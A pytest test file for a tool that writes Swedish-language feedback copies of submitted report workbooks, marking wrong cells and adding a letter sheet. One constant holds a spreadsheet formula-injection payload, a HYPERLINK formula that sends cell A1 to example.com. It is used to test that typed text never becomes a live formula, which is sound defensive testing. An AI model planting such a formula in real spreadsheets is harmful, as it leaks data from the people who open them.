"""Feedback copies: wrong cells red or yellow with a Swedish comment, a first sheet that reads as a
letter with the findings linked, source untouched."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import Result

from consolidate.catalog import Catalog
from consolidate.feedback import write_feedback
from consolidate.periods import Period
from consolidate.run import check_files
from test_template import assert_prints_a4_landscape
from test_validate import base_values

from conftest import ROOT

T2 = Period(2025, 2)
RED, YELLOW, INPUT = "FF9C9C", "FFD966", "FFF2CC"
HEADS = ["Allvarlighet", "Fält", "Flik och cell", "Vad är fel och vad som väntas"]
INJECTION = '=HYPERLINK("http://example.com/?q="&A1,"Klicka här")'


def typed_as_text(path: Path, sheet: str, ref: str, text: str) -> None:
    """A comment that looks like a formula but was typed as text (Excel stores it as a string)."""
    wb = openpyxl.load_workbook(path)
    cell = wb[sheet][ref]
    cell.value = text
    cell.data_type = "s"
    wb.save(path)


def fill_rgb(cell: Any) -> str:
    return str(cell.fill.fgColor.rgb)[-6:] if cell.fill and cell.fill.fill_type == "solid" else ""


def letter(ws: Any) -> tuple[list[str], int, list[list[Any]]]:
    """The Återkoppling sheet as a unit head reads it: the letter's lines, the row of the table's
    heads, and the table's rows below it."""
    lines: list[str] = []
    for row in ws.iter_rows(max_col=4):
        values = [c.value for c in row]
        if values == HEADS:
            rows = [[c.value for c in r] for r in ws.iter_rows(min_row=row[0].row + 1, max_col=4)]
            return lines, row[0].row, rows
        if values[0]:
            lines.append(str(values[0]))
    raise AssertionError(f"no table with the heads {HEADS} on {ws.title}")


@pytest.fixture(scope="module")
def round1(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog,
           template_cache: Callable[[str, str], Path]) -> dict[str, Any]:
    """check --feedback over a folder: one file with an error and a warning, one merged, one
    valid."""
    from click.testing import CliRunner

    from consolidate.cli import cli

    from conftest import fill

    root = tmp_path_factory.mktemp("feedback")
    folder = root / "inlamning"
    base = base_values(catalog, "forebyggande", T2)
    wrong = fill(template_cache("forebyggande", "2025-T2"),
                 {**base, "tab_arenden_per_kalla_bun_andel": 0.63,
                  "ind_forebyggande_insatser_varde": 25000},
                 folder / "2025-T2_forebyggande.xlsx")
    typed_as_text(wrong, "Indikatorer", "I6", INJECTION)
    merged = fill(template_cache("barn_unga", "2025-T2"), base_values(catalog, "barn_unga", T2),
                  folder / "2025-T2_barn_unga.xlsx")
    wb = openpyxl.load_workbook(merged)
    wb["Indikatorer"].merge_cells("D7:E7")
    wb.save(merged)
    valid = fill(template_cache("vuxen", "2025-T2"), base_values(catalog, "vuxen", T2),
                 folder / "2025-T2_vuxen.xlsx")
    before = {p: p.read_bytes() for p in (wrong, merged, valid)}
    out = root / "aterkoppling"
    result = CliRunner().invoke(cli, ["check", str(folder), "--feedback", str(out), "--json"],
                                catch_exceptions=False)
    return {"root": root, "folder": folder, "out": out, "result": result, "before": before,
            "wrong": wrong}


def test_sources_are_never_modified(round1: dict[str, Any]) -> None:
    for path, data in round1["before"].items():
        assert path.read_bytes() == data
    assert sorted(p.name for p in round1["folder"].iterdir()) == [
        "2025-T2_barn_unga.xlsx", "2025-T2_forebyggande.xlsx", "2025-T2_vuxen.xlsx"]


def test_one_copy_per_checked_workbook(round1: dict[str, Any]) -> None:
    assert round1["result"].exit_code == 1
    assert sorted(p.name for p in round1["out"].iterdir()) == [
        "2025-T2_barn_unga_återkoppling.xlsx", "2025-T2_forebyggande_återkoppling.xlsx",
        "2025-T2_vuxen_återkoppling.xlsx"]


def test_wrong_cells_coloured_and_commented(round1: dict[str, Any]) -> None:
    wb = openpyxl.load_workbook(round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx")
    share = wb["Ärenden per källa"]["C7"]
    assert fill_rgb(share) == RED
    assert share.comment is not None and share.comment.text.startswith("FEL: BUN: andel: 63")
    assert "stämmer inte" in share.comment.text
    # A strong edge as well, so the mark shows on paper and against the input cells' pale yellow.
    assert share.border.left.style == "medium" and str(share.border.left.color.rgb)[-6:] == "C00000"
    warn = wb["Indikatorer"]["D6"]
    assert fill_rgb(warn) == YELLOW and warn.border.top.style == "medium"
    assert (warn.comment is not None and "VARNING" in warn.comment.text
            and "rimliga intervallet" in warn.comment.text)
    # Cells without findings keep the template's input colour and get no comment.
    ok = wb["Ärenden per källa"]["C6"]
    assert fill_rgb(ok) == INPUT and ok.comment is None
    assert wb["Ärenden per källa"]["C7"].value == 0.63  # the values stay as typed


def test_first_sheet_is_a_letter_with_the_findings_linked(round1: dict[str, Any],
                                                          catalog: Catalog) -> None:
    wb = openpyxl.load_workbook(round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx")
    assert wb.sheetnames[0] == "Återkoppling" and wb.active.title == "Återkoppling"
    ws = wb["Återkoppling"]
    lines, head, rows = letter(ws)
    unit = catalog.unit("forebyggande").name
    assert lines[0] == f"Återkoppling – {unit}, tertial 2 2025 (maj–aug)"
    assert "Granskad fil: 2025-T2_forebyggande.xlsx." in lines[1]
    assert "Bedömning: underkänd – 1 fel och 1 varning." in lines
    # The catalog's deadline for T2 is 09-10, its contact the board's address.
    assert ("Rätta de röda cellerna i den här filen och lämna in den igen i den gemensamma mappen "
            "senast 10 september 2025.") in " ".join(lines)
    assert any(line.startswith("De gula cellerna är varningar") for line in lines)
    assert f"Frågor? Kontakta {catalog.board.contact}." in lines
    # fel before varningar; the field named as on the template; the message without that name.
    ind = next(i for i in catalog.indicators if i.id == "forebyggande_insatser")
    assert [(r[0], r[1], r[2]) for r in rows] == [("Fel", "BUN: andel", "Ärenden per källa!C7"),
                                                  ("Varning", ind.name, "Indikatorer!D6")]
    assert rows[0][3].startswith("63 % stämmer inte med")
    assert rows[1][3].startswith("25\u00a0000 ligger utanför det rimliga intervallet")
    assert ws.cell(head + 1, 3).hyperlink.location == "'Ärenden per källa'!C7"
    assert ws.cell(head + 2, 3).hyperlink.location == "'Indikatorer'!D6"
    assert fill_rgb(ws.cell(head + 1, 1)) == RED and fill_rgb(ws.cell(head + 2, 1)) == YELLOW
    # The report's findings are the ones listed.
    data = json.loads(round1["result"].stdout)
    listed = sorted(f"{f['flik']}!{f['cell']}" for f in data["fynd"]
                    if f["fil"] == "2025-T2_forebyggande.xlsx")
    assert listed == sorted(r[2] for r in rows)


def test_the_letter_prints_on_a4_landscape_in_one_font(round1: dict[str, Any],
                                                      catalog: Catalog) -> None:
    wb = openpyxl.load_workbook(round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx")
    ws = wb["Återkoppling"]
    _, head, rows = letter(ws)
    fonts = {ws.cell(r, c).font.name for r in range(1, head + len(rows) + 1) for c in range(1, 5)
             if ws.cell(r, c).value}
    assert fonts == {"Calibri"}
    assert ws.freeze_panes == f"A{head + 1}" and ws.print_title_rows == f"${head}:${head}"
    # Every column at least as wide as the longest word in it: no word is cut.
    for col in range(1, 5):
        letter_ = ws.cell(head, col).column_letter
        words = [w for r in range(head, head + len(rows) + 1)
                 for w in str(ws.cell(r, col).value or "").split()]
        assert ws.column_dimensions[letter_].width >= max(map(len, words)), letter_
    unit = catalog.unit("forebyggande").name
    for sheet in (s for s in wb.worksheets if s.sheet_state == "visible"):
        assert_prints_a4_landscape(sheet, f"{unit} – T2 2025")


def test_text_that_looks_like_a_formula_stays_text(round1: dict[str, Any]) -> None:
    path = round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx"
    cell = openpyxl.load_workbook(path)["Indikatorer"]["I6"]
    assert cell.value == INJECTION and cell.data_type == "s"
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.endswith(".xml"))
    assert b"<f>HYPERLINK" not in xml and b"<f>=HYPERLINK" not in xml  # never a formula ...
    assert xml.count(b"=HYPERLINK(") == 1  # ... the typed text, kept once as a string


def test_valid_workbook_gets_a_thank_you(round1: dict[str, Any]) -> None:
    ws = openpyxl.load_workbook(round1["out"] / "2025-T2_vuxen_återkoppling.xlsx")["Återkoppling"]
    lines, _, rows = letter(ws)
    assert "Bedömning: godkänd – inga fel och inga varningar." in lines
    assert any("Du behöver inte göra något mer. Tack!" in line for line in lines)
    assert not any("senast" in line for line in lines)
    assert rows == [[None, None, None, "Inga fel eller varningar."]]


def test_merged_input_cell_is_marked_on_the_merge(round1: dict[str, Any]) -> None:
    wb = openpyxl.load_workbook(round1["out"] / "2025-T2_barn_unga_återkoppling.xlsx")
    anchor = wb["Indikatorer"]["D7"]
    assert (fill_rgb(anchor) == RED and anchor.comment is not None
            and "sammanfogade" in anchor.comment.text)
    _, _, rows = letter(wb["Återkoppling"])
    assert [(r[0], r[2]) for r in rows] == [("Fel", "Indikatorer!E7")]


def test_returned_feedback_copy_is_read_and_can_be_corrected(
        round1: dict[str, Any], catalog: Catalog, tmp_path: Path, invoke: Callable[..., Result],
        unchanged: Callable[[Path], None]) -> None:
    """A unit head corrects the marked cells in the copy and hands it in again."""
    copy = round1["out"] / "2025-T2_forebyggande_återkoppling.xlsx"
    first = check_files([copy], catalog)
    assert sorted((f.code, f.cell) for f in first.all_findings()) == [("andel_antal", "C7"),
                                                                      ("orimligt", "D6")]
    returned = tmp_path / "inlamning" / copy.name
    returned.parent.mkdir()
    wb = openpyxl.load_workbook(copy)
    wb["Ärenden per källa"]["C7"] = 0.61
    wb.save(returned)
    unchanged(returned)
    result = invoke("check", returned, "--feedback", tmp_path / "runda2")
    assert result.exit_code == 0, result.output
    again = openpyxl.load_workbook(tmp_path / "runda2" / copy.name)
    corrected = again["Ärenden per källa"]["C7"]
    assert fill_rgb(corrected) == INPUT and corrected.comment is None
    assert fill_rgb(again["Indikatorer"]["D6"]) == YELLOW
    assert [ws.title for ws in again.worksheets].count("Återkoppling") == 1


def test_feedback_never_overwrites_the_submission(round1: dict[str, Any], tmp_path: Path,
                                                  catalog: Catalog,
                                                  unchanged: Callable[[Path], None]) -> None:
    returned = tmp_path / "2025-T2_forebyggande_återkoppling.xlsx"
    returned.write_bytes((round1["out"] / returned.name).read_bytes())
    unchanged(returned)
    checked = check_files([returned], catalog)
    assert write_feedback(returned, checked.all_findings(), tmp_path) is None
    assert sorted(p.name for p in tmp_path.iterdir()) == [returned.name]


def test_feedback_never_overwrites_another_input(tmp_path: Path, filled: Callable[..., Path],
                                                 catalog: Catalog,
                                                 unchanged: Callable[[Path], None]) -> None:
    """A unit head saved a corrected workbook under the feedback copy's name in the same folder."""
    source = filled("vuxen", "2025-T2", base_values(catalog, "vuxen", T2))
    other = filled("vuxen", "2025-T2", base_values(catalog, "vuxen", T2),
                   name="2025-T2_vuxen_återkoppling.xlsx")
    unchanged(tmp_path)
    assert write_feedback(source, [], tmp_path, inputs=[source, other]) is None
    written = write_feedback(source, [], tmp_path / "ut", inputs=[source, other])
    assert written == tmp_path / "ut" / "2025-T2_vuxen_återkoppling.xlsx"


def test_a_feedback_folder_that_cannot_be_written_is_said_before_reading(
        tmp_path: Path, filled: Callable[..., Path], catalog: Catalog,
        invoke: Callable[..., Result], unchanged: Callable[[Path], None]) -> None:
    """A folder under a regular file can be made by nobody, root included, on Linux as on
    Windows."""
    source = filled("vuxen", "2025-T2", base_values(catalog, "vuxen", T2))
    unchanged(source)
    blocker = tmp_path / "anteckning.txt"
    blocker.write_text("inte en mapp\n", encoding="utf-8")
    target = blocker / "återkoppling"
    result = invoke("check", source, "--feedback", target)  # an exception would fail the test
    assert result.exit_code == 2
    assert f"Återkopplingsmappen {target} går inte att skriva i" in result.output
    assert "en del av sökvägen är en fil" in result.output
    assert "OK" not in result.output  # nothing was read before the folder was refused


def test_a_copy_that_cannot_be_written_is_named_and_the_others_are_written(
        tmp_path: Path, filled: Callable[..., Path], catalog: Catalog,
        invoke: Callable[..., Result]) -> None:
    folder = tmp_path / "inlamning"
    for unit in ("vuxen", "barn_unga"):
        filled(unit, "2025-T2", base_values(catalog, unit, T2), folder=folder)
    out = tmp_path / "ut"
    (out / "2025-T2_vuxen_återkoppling.xlsx").mkdir(parents=True)  # in the way of one copy
    result = invoke("check", folder, "--feedback", out)
    assert result.exit_code == 2
    assert (f"Återkopplingskopian för 2025-T2_vuxen.xlsx kunde inte skrivas i mappen {out}"
            in result.output)
    assert (out / "2025-T2_barn_unga_återkoppling.xlsx").is_file()


def test_warnings_only_is_accepted_and_no_deadline_is_promised_without_one(
        tmp_path: Path, filled: Callable[..., Path], catalog: Catalog,
        invoke: Callable[..., Result]) -> None:
    """A catalog without [inlamning]: the letter asks for nothing by a date it does not know."""
    text = (ROOT / "schemas" / "katalog.toml").read_text(encoding="utf-8")
    section = '[inlamning]\nT1 = "05-10"\nT2 = "09-10"\nT3 = "01-15"\n'
    assert section in text
    own = tmp_path / "katalog.toml"
    own.write_text(text.replace(section, ""), encoding="utf-8")
    source = filled("forebyggande", "2025-T2", {**base_values(catalog, "forebyggande", T2),
                                                "ind_forebyggande_insatser_varde": 25000},
                    folder=tmp_path / "inlamning")
    result = invoke("check", source, "--feedback", tmp_path / "ut", "--katalog", own)
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(tmp_path / "ut" / "2025-T2_forebyggande_återkoppling.xlsx")[
        "Återkoppling"]
    lines, _, rows = letter(ws)
    assert "Bedömning: godkänd med varningar – 0 fel och 1 varning." in lines
    assert "Filen är godkänd och kommer med i sammanställningen." in lines
    assert not any("senast" in line or "Rätta" in line for line in lines)
    assert [r[0] for r in rows] == ["Varning"]


def test_findings_are_listed_fel_first_in_the_order_of_the_sheets(
        tmp_path: Path, filled: Callable[..., Path], catalog: Catalog,
        invoke: Callable[..., Result]) -> None:
    values = {**base_values(catalog, "forebyggande", T2),
              "tab_personalomsattning_egen_begaran_antal": 12,  # fel on a late sheet
              "tab_arenden_per_kalla_bun_andel": 0.63,  # fel on the second
              "ind_forebyggande_insatser_varde": 25000}  # varning on the first
    source = filled("forebyggande", "2025-T2", values, folder=tmp_path / "inlamning")
    wb = openpyxl.load_workbook(source)
    wb["Tillbud och skador"]["B6"].value = "några"  # fel on the last sheet
    wb.save(source)
    assert invoke("check", source, "--feedback", tmp_path / "ut").exit_code == 1
    ws = openpyxl.load_workbook(tmp_path / "ut" / "2025-T2_forebyggande_återkoppling.xlsx")[
        "Återkoppling"]
    _, _, rows = letter(ws)
    order = [ws.title for ws in openpyxl.load_workbook(source).worksheets]
    places = [(r[0], r[2].split("!")[0]) for r in rows]
    errors = [sheet for severity, sheet in places if severity == "Fel"]
    assert [severity for severity, _ in places] == ["Fel"] * len(errors) + ["Varning"]
    assert errors == sorted(errors, key=order.index) and len(set(errors)) >= 3, places
